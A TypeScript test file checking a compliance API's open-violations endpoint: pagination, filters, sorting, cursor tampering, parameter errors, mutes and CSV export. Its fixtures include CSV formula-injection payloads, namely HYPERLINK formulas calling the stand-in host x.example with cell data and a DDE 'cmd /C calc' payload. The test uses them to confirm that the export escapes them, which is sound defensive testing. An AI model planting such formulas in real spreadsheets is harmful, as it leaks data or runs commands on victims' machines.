/**
 * `GET /violations` through `createApiApp` against real dynalite: states moved by the consumer's
 * own decision (`decide`) and written by its own repository, read back from the state table's
 * sparse `open` index page by page, filtered, sorted, and as CSV.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ComplianceStateRepository } from '../../src/adapters/dynamodb/compliance-state.repository.js';
import {
  type OpenViolation,
  OpenViolationRepository,
} from '../../src/adapters/dynamodb/open-violation.repository.js';
import { STATE_TABLE, tableName } from '../../src/adapters/dynamodb/table-definitions.js';
import { createApiApp } from '../../src/api/app.js';
import { VIOLATION_SORTS } from '../../src/api/param-rules.js';
import { MAX_SORTED_VIOLATIONS } from '../../src/api/routes/violations.js';
import { type ComplianceState, decide, stateKeyId } from '../../src/domain/compliance-state.js';
import { baseRuleName, type ComplianceChange, parseConfigEvent } from '../../src/domain/config-event.js';
import { SEVERITIES, severityOf } from '../../src/domain/managed-rules.js';
import type { Mute } from '../../src/domain/mute.js';
import type { MuteStore } from '../../src/ports/mutes.js';
import { complianceEvent, type Status } from '../helpers/archive-events.js';
import { FakeQueryEngine } from '../helpers/fake-query-engine.js';
import { type LocalDynamo, startLocalDynamo } from '../helpers/local-aws.js';

const NOW = new Date('2024-03-10T12:00:00Z');
const ACCOUNTS = ['111111111111', '222222222222', '333333333333'];
/** Names and owners of the configuration: a hostile name (a formula), a name alone, none for 333…. */
const ACCOUNT_MAP = {
  '111111111111': { name: '=HYPERLINK("http://x.example/","prod")', owner: 'team-payments@example.com' },
  '222222222222': { name: 'staging' },
};
const REGIONS = ['eu-west-1', 'us-east-1'];
/** Rules of every severity the catalog has here, two conformance-pack instances of one. */
const RULES = [
  'restricted-ssh',
  'restricted-common-ports-conformance-pack-abc123def',
  'restricted-common-ports-conformance-pack-zz9xy8wv7',
  'cloudtrail-enabled',
  's3-bucket-versioning-enabled',
  'ec2-volume-inuse-check',
  'my-custom-rule',
];
const HOSTILE_ID = '=HYPERLINK("http://x.example/?"&A1,"click")';
const HOSTILE_ANNOTATION = '+cmd|" /C calc"!A0, "quoted"\nsecond line';

let dynamo: LocalDynamo;
let app: ReturnType<typeof createApiApp>;
let prefixOfApp: string;
/** The pairs the test expects open, with when each opened (its first NON_COMPLIANT event time). */
const expectedOpen = new Map<string, { state: ComplianceState; openedAt: string }>();

function toChange(raw: Record<string, unknown>): ComplianceChange {
  const outcome = parseConfigEvent(raw);
  if (outcome.status !== 'accepted' || outcome.event.kind !== 'compliance-change') {
    throw new Error(`fixture not accepted: ${JSON.stringify(outcome)}`);
  }
  return outcome.event;
}

async function get(
  path: string,
  headers: Record<string, string> = {},
): Promise<{ status: number; body: any }> {
  const res = await app.request(path, { headers });
  const type = res.headers.get('content-type') ?? '';
  return { status: res.status, body: type.includes('json') ? await res.json() : await res.text() };
}

/** Every page of a query, following `next`. */
async function allPages(query: string, limit: number): Promise<{ items: any[]; pages: number }> {
  const items: any[] = [];
  let next: string | null = null;
  let pages = 0;
  do {
    const cursor: string = next ? `&next=${next}` : '';
    const res = await get(`/violations?${query}${query ? '&' : ''}limit=${limit}${cursor}`);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.items.length).toBeLessThanOrEqual(limit);
    items.push(...res.body.items);
    next = res.body.next;
    pages++;
  } while (next !== null && pages < 200);
  return { items, pages };
}

const idOf = (item: {
  account: string;
  region: string;
  rule_name: string;
  resource_type: string;
  resource_id: string;
}) =>
  stateKeyId({
    account: item.account,
    region: item.region,
    ruleName: item.rule_name,
    resourceType: item.resource_type,
    resourceId: item.resource_id,
  });

beforeAll(async () => {
  // Prepare: for each account × region × rule, 3 resources: one non-compliant now (opened at a
  // known time, then re-evaluated NON_COMPLIANT with a new annotation: still open since the
  // first), one that was non-compliant and is compliant now, one compliant all along. One open
  // pair's state expired (TTL lag: still stored) and one has a hostile id and annotation.
  dynamo = await startLocalDynamo();
  const prefix = await dynamo.newPrefix();
  prefixOfApp = prefix;
  const table = tableName(prefix, STATE_TABLE);
  const states = new ComplianceStateRepository(dynamo.doc, table);
  const current = new Map<string, ComplianceState>();
  let n = 0;
  const apply = async (spec: Parameters<typeof complianceEvent>[0], writeAt = NOW) => {
    const change = toChange(complianceEvent(spec));
    const decision = decide(change, current.get(stateKeyId(change)));
    if (!decision.newest) throw new Error('fixture out of order');
    current.set(stateKeyId(change), decision.state);
    const result = await states.putIfNewer([decision.state], writeAt);
    expect(result.failed.size).toBe(0);
    return { change, state: decision.state };
  };
  for (const account of ACCOUNTS) {
    for (const region of REGIONS) {
      for (const rule of RULES) {
        n++;
        const minute = String(n % 60).padStart(2, '0');
        const opened = `2024-03-0${1 + (n % 8)}T10:${minute}:00.000Z`;
        const resourceId = n === 5 ? HOSTILE_ID : `bucket-${n}`;
        const base = { account, region, rule, resourceId };
        const first = await apply({
          ...base,
          id: `evt-${n}-a`,
          newStatus: 'NON_COMPLIANT' as Status,
          oldStatus: 'COMPLIANT' as Status,
          at: opened,
          time: opened,
        });
        const again = await apply({
          ...base,
          id: `evt-${n}-b`,
          newStatus: 'NON_COMPLIANT',
          oldStatus: 'NON_COMPLIANT',
          at: '2024-03-09T08:00:00.000Z',
          annotation: n === 5 ? HOSTILE_ANNOTATION : `still open ${n}`,
        });
        expect(again.state.openedAt).toBe(first.change.eventTime);
        if (n !== 7) expectedOpen.set(stateKeyId(first.change), { state: again.state, openedAt: opened });
        else {
          // Expired: written 91 days before NOW.
          await states.putIfNewer([again.state], new Date(NOW.getTime() - 91 * 86_400_000));
        }
        const fixedId = `fixed-${n}`;
        await apply({
          ...base,
          resourceId: fixedId,
          id: `evt-${n}-c`,
          newStatus: 'NON_COMPLIANT',
          at: opened,
        });
        await apply({
          ...base,
          resourceId: fixedId,
          id: `evt-${n}-d`,
          newStatus: 'COMPLIANT',
          oldStatus: 'NON_COMPLIANT',
          at: '2024-03-09T09:00:00.000Z',
        });
        await apply({ ...base, resourceId: `ok-${n}`, id: `evt-${n}-e`, newStatus: 'COMPLIANT', at: opened });
      }
    }
  }
  app = createApiApp({
    events: { page: async () => ({ items: [], last: null }) },
    syncStatus: { latest: async () => null },
    openViolations: new OpenViolationRepository(dynamo.doc, table),
    accounts: ACCOUNT_MAP,
    queryEngine: new FakeQueryEngine(),
    logger: { info: () => {}, error: () => {} },
    now: () => NOW,
  });
}, 120_000);

afterAll(async () => {
  await dynamo?.close();
});

describe('GET /violations', () => {
  it('lists exactly the open pairs, newest opened first, with severity and open since, over pages', async () => {
    // Act
    const { items, pages } = await allPages('', 7);
    // Assess
    expect(pages).toBeGreaterThan(5);
    expect(items.map(idOf).sort()).toEqual([...expectedOpen.keys()].sort());
    expect(new Set(items.map(idOf)).size).toBe(items.length);
    const opened = items.map((item) => item.open_since);
    expect(opened).toEqual([...opened].sort().reverse());
    for (const item of items) {
      const expected = expectedOpen.get(idOf(item));
      expect(item.open_since).toBe(expected?.openedAt);
      expect(item.last_evaluated).toBe('2024-03-09T08:00:00.000Z');
      expect(item.severity).toBe(severityOf(item.rule_name).severity);
      expect(item.base_rule_name).toBe(baseRuleName(item.rule_name));
      expect(item.event_id).toBe(expected?.state.eventId);
      expect(Object.keys(item).sort()).toEqual(
        [
          'account',
          'account_name',
          'annotation',
          'base_rule_name',
          'event_id',
          'last_evaluated',
          'mute_id',
          'muted',
          'open_since',
          'owner',
          'region',
          'resource_id',
          'resource_type',
          'rule_name',
          'severity',
        ].sort(),
      );
    }
    expect(new Set(items.map((item) => item.severity)).size).toBe(4);
  });

  it('filters by account, region, rule (a base name covers its conformance-pack instances) and severity', async () => {
    const all = [...expectedOpen.values()].map((e) => e.state);
    const cases: [string, (s: ComplianceState) => boolean][] = [
      ['account=222222222222', (s) => s.account === '222222222222'],
      ['region=us-east-1', (s) => s.region === 'us-east-1'],
      [
        'account=111111111111&region=eu-west-1',
        (s) => s.account === '111111111111' && s.region === 'eu-west-1',
      ],
      ['rule=restricted-common-ports', (s) => baseRuleName(s.ruleName) === 'restricted-common-ports'],
      [
        'rule=restricted-common-ports-conformance-pack-zz9xy8wv7',
        (s) => s.ruleName === 'restricted-common-ports-conformance-pack-zz9xy8wv7',
      ],
      ['rule=restricted', () => false],
      ['severity=CRITICAL', (s) => severityOf(s.ruleName).severity === 'CRITICAL'],
      [
        'severity=HIGH,INFORMATIONAL&region=eu-west-1',
        (s) =>
          ['HIGH', 'INFORMATIONAL'].includes(severityOf(s.ruleName).severity) && s.region === 'eu-west-1',
      ],
      ['severity=LOW', () => false],
    ];
    for (const [query, keep] of cases) {
      // Act
      const { items } = await allPages(query, 5);
      // Assess
      const expected = all.filter(keep).map(stateKeyId).sort();
      expect(items.map(idOf).sort(), query).toEqual(expected);
    }
  });

  it('sorts by every field both ways, and pages through each sort in that order', async () => {
    const rank = (severity: string) => SEVERITIES.indexOf(severity as (typeof SEVERITIES)[number]);
    const { items: everything } = await allPages('sort=open_since', 500);
    expect(everything.map((i) => i.open_since)).toEqual(everything.map((i) => i.open_since).sort());
    for (const sort of VIOLATION_SORTS) {
      // Act
      const { items } = await allPages(`sort=${sort}`, 9);
      // Assess: the same set, ordered by the field (ties in any stable order, the same on every page).
      expect(items.map(idOf).sort(), sort).toEqual([...expectedOpen.keys()].sort());
      const field = sort.replace(/^-/, '');
      const value = (item: any): string | number =>
        field === 'severity'
          ? rank(item.severity)
          : field === 'rule'
            ? item.base_rule_name
            : field === 'resource'
              ? item.resource_id
              : field === 'open_since'
                ? item.open_since
                : item[field];
      const values = items.map(value);
      const sorted = [...values].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
      expect(values, sort).toEqual(sort.startsWith('-') ? sorted.reverse() : sorted);
    }
    // Severity: most severe first, then the oldest.
    const { items } = await allPages('sort=severity', 500);
    const critical = items.filter((i) => i.severity === 'CRITICAL').map((i) => i.open_since);
    expect(critical).toEqual([...critical].sort());
  });

  it('binds the cursor to its filters and sort, and refuses an altered one', async () => {
    // Prepare
    const first = await get('/violations?account=111111111111&sort=severity&limit=2');
    const next = first.body.next as string;
    expect(next).toEqual(expect.any(String));
    const indexCursor = (await get('/violations?limit=2')).body.next as string;
    // Act
    const cases = [
      `/violations?account=222222222222&sort=severity&limit=2&next=${next}`,
      `/violations?account=111111111111&sort=account&limit=2&next=${next}`,
      `/violations?account=111111111111&severity=CRITICAL&sort=severity&limit=2&next=${next}`,
      `/violations?account=111111111111&muted=false&sort=severity&limit=2&next=${next}`,
      `/violations?account=111111111111&sort=severity&limit=2&next=${next.slice(0, -2)}AA`,
      `/violations?sort=open_since&limit=2&next=${indexCursor}`,
      `/violations?account=111111111111&limit=2&next=${next}`,
    ];
    // Assess
    for (const path of cases) {
      const res = await get(path);
      expect(res.status, path).toBe(400);
      expect(res.body.parameter, path).toBe('next');
    }
    expect((await get(`/violations?account=111111111111&sort=severity&limit=2&next=${next}`)).status).toBe(
      200,
    );
  });

  it('answers every invalid parameter with a 400 naming it', async () => {
    const cases: [string, string, RegExp][] = [
      ['account=12345', 'account', /exactly 12 ASCII digits \(was "12345"\)/],
      ['region=mars', 'region', /AWS region/],
      ['rule=a%0Ab', 'rule', /without control characters/],
      [`rule=${'r'.repeat(257)}`, 'rule', /1 to 256 characters/],
      ['severity=SEVERE', 'severity', /one or more of CRITICAL, HIGH, MEDIUM, LOW, INFORMATIONAL/],
      ['severity=HIGH,HIGH', 'severity', /each once/],
      ['severity=high', 'severity', /CRITICAL/],
      ['sort=owner', 'sort', /one of -open_since, open_since, severity/],
      ['limit=0', 'limit', /at least 1/],
      ['limit=501', 'limit', /limit must be/],
      ['format=xlsx', 'format', /json or csv/],
      ['next=abc', 'next', /cursor/],
      ['muted=yes', 'muted', /true or false/],
      [
        'owner=me',
        'owner',
        /unknown parameter "owner"; allowed: account, region, rule, severity, muted, sort, limit, next, format/,
      ],
      ['account=111111111111&account=222222222222', 'account', /given once/],
    ];
    for (const [query, parameter, message] of cases) {
      const res = await get(`/violations?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.body, query).toMatchObject({ error: 'invalid_parameter', parameter });
      expect(res.body.message, query).toMatch(message);
    }
  });

  it("names each violation's account and owner from the accounts map, null for an account it does not list", async () => {
    // Act
    const items = (await get('/violations?limit=500')).body.items as any[];
    // Assess
    for (const account of ACCOUNTS) expect(items.some((item) => item.account === account)).toBe(true);
    for (const item of items) {
      const expected = (
        {
          '111111111111': {
            account_name: ACCOUNT_MAP['111111111111'].name,
            owner: 'team-payments@example.com',
          },
          '222222222222': { account_name: 'staging', owner: null },
          '333333333333': { account_name: null, owner: null },
        } as Record<string, unknown>
      )[item.account as string];
      expect({ account_name: item.account_name, owner: item.owner }).toEqual(expected);
    }
  });

  it('exports CSV for format=csv and for Accept: text/csv, escaped and safe to open in a spreadsheet', async () => {
    // Act
    const byFormat = await app.request('/violations?format=csv&limit=500');
    const byAccept = await app.request('/violations?limit=500', { headers: { accept: 'text/csv' } });
    const jsonWins = await app.request('/violations?format=json', { headers: { accept: 'text/csv' } });
    // Assess
    expect(byFormat.status).toBe(200);
    expect(byFormat.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(byFormat.headers.get('content-disposition')).toBe('attachment; filename="open-violations.csv"');
    expect(byAccept.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(jsonWins.headers.get('content-type')).toMatch(/application\/json/);
    const csv = await byFormat.text();
    expect(await byAccept.text()).toBe(csv);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'account,region,rule_name,base_rule_name,severity,resource_type,resource_id,open_since,last_evaluated,annotation,event_id,muted,mute_id,account_name,owner',
    );
    // The account's name is operator text: a formula is shown as text, as any other field.
    const prod = lines.find((line) => line.startsWith('111111111111,')) as string;
    expect(prod.endsWith(`,"'=HYPERLINK(""http://x.example/"",""prod"")",team-payments@example.com`)).toBe(
      true,
    );
    expect(lines.at(-1)).toBe('');
    const json = (await get('/violations?limit=500')).body.items;
    // One line per violation, in the JSON's order, except the hostile row whose annotation holds a line break.
    expect(csv.split('\r\n').length - 2).toBe(json.length);
    const hostile = json.findIndex((item: any) => item.resource_id === HOSTILE_ID);
    expect(hostile).toBeGreaterThanOrEqual(0);
    const row = lines[hostile + 1] as string;
    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(row).toContain(`"'+cmd|"" /C calc""!A0, ""quoted""\nsecond line"`);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
  });

  it('pages CSV with the same cursor, named in a Link header', async () => {
    // Act
    const first = await app.request('/violations?format=csv&account=333333333333&limit=4');
    const link = first.headers.get('link') as string;
    // Assess
    expect(link).toMatch(/^<\?format=csv&account=333333333333&limit=4&next=[A-Za-z0-9_.-]+>; rel="next"$/);
    const second = await app.request(`/violations${link.slice(1, link.indexOf('>'))}`);
    expect(second.status).toBe(200);
    const rows = (text: string) => text.trim().split('\r\n').slice(1);
    const json = await allPages('account=333333333333', 4);
    expect([...rows(await first.text()), ...rows(await second.text())].map((r) => r.split(',')[6])).toEqual(
      json.items.slice(0, 8).map((item) => item.resource_id),
    );
  });

  it('refuses a sort it would have to order in memory past its bound, naming sort', async () => {
    // Prepare: a repository that finds more than the bound.
    const many: OpenViolation = {
      account: '111111111111',
      region: 'eu-west-1',
      ruleName: 'restricted-ssh',
      resourceType: 'AWS::EC2::SecurityGroup',
      resourceId: 'sg-1',
      openedAt: '2024-03-01T00:00:00.000Z',
      lastEvaluated: '2024-03-01T00:00:00.000Z',
      eventId: 'e',
      annotation: null,
      sortKey: `2024-03-01T00:00:00.000Z#${'0'.repeat(32)}`,
    };
    const limited = createApiApp({
      events: { page: async () => ({ items: [], last: null }) },
      syncStatus: { latest: async () => null },
      openViolations: {
        page: async () => ({ items: [many], last: null }),
        all: async (_filter, max) => {
          expect(max).toBe(MAX_SORTED_VIOLATIONS);
          return { items: [many], complete: false };
        },
      },
      queryEngine: new FakeQueryEngine(),
      logger: { info: () => {}, error: () => {} },
    });
    // Act
    const res = await limited.request('/violations?sort=severity');
    const byIndex = await limited.request('/violations?sort=-open_since');
    // Assess
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({
      parameter: 'sort',
      message: expect.stringMatching(
        /at most 10,000 open violations .* narrow them with account, region, rule or severity/,
      ),
    });
    expect(byIndex.status).toBe(200);
  });

  it('says which violations a mute in force covers, and filters on it', async () => {
    // Prepare: a mute in force over restricted-ssh in one account (every region), one removed, one not yet begun.
    const mute = (over: Partial<Mute>): Mute => ({
      id: 'm-000000000001',
      account: '222222222222',
      region: null,
      rule: 'restricted-ssh',
      resource: null,
      until: '2024-04-01T00:00:00.000Z',
      reason: 'accepted risk',
      createdAt: '2024-03-01T00:00:00.000Z',
      createdBy: 'local:test',
      removedAt: null,
      removedBy: null,
      removalReason: null,
      endHandledAt: null,
      ...over,
    });
    const mutes = [
      mute({}),
      mute({ id: 'm-000000000002', account: '111111111111', removedAt: '2024-03-05T00:00:00.000Z' }),
      mute({ id: 'm-000000000003', account: '333333333333', createdAt: '2024-03-11T00:00:00.000Z' }),
    ];
    const muting = createApiApp({
      events: { page: async () => ({ items: [], last: null }) },
      syncStatus: { latest: async () => null },
      openViolations: new OpenViolationRepository(dynamo.doc, tableName(prefixOfApp, STATE_TABLE)),
      mutes: { list: async () => mutes } as unknown as MuteStore,
      queryEngine: new FakeQueryEngine(),
      logger: { info: () => {}, error: () => {} },
      now: () => NOW,
    });
    const pages = async (query: string) => {
      const res = await muting.request(`/violations?limit=500${query}`);
      expect(res.status).toBe(200);
      return (await res.json()).items as any[];
    };
    // Act
    const all = await pages('');
    const muted = await pages('&muted=true');
    const unmuted = await pages('&muted=false');
    // Assess
    const covered = (item: any) =>
      item.account === '222222222222' && item.base_rule_name === 'restricted-ssh';
    expect(
      all
        .filter((item) => item.muted)
        .map(idOf)
        .sort(),
    ).toEqual(all.filter(covered).map(idOf).sort());
    expect(all.filter(covered).length).toBe(2);
    for (const item of all) expect(item.mute_id).toBe(covered(item) ? 'm-000000000001' : null);
    expect(muted.map(idOf).sort()).toEqual(all.filter(covered).map(idOf).sort());
    expect(unmuted.length).toBe(all.length - muted.length);
    const csv = await (await muting.request('/violations?format=csv&muted=true')).text();
    expect(
      csv
        .trim()
        .split('\r\n')
        .slice(1)
        .every((line) => line.endsWith(',true,m-000000000001,,')),
    ).toBe(true);
  });

  it('is a 404 naming the route where the API has no state table', async () => {
    const bare = createApiApp({
      events: { page: async () => ({ items: [], last: null }) },
      syncStatus: { latest: async () => null },
      queryEngine: new FakeQueryEngine(),
      logger: { info: () => {}, error: () => {} },
    });
    const res = await bare.request('/violations');
    expect(res.status).toBe(404);
    expect((await res.json()).message).toMatch(/GET \/violations/);
  });
});
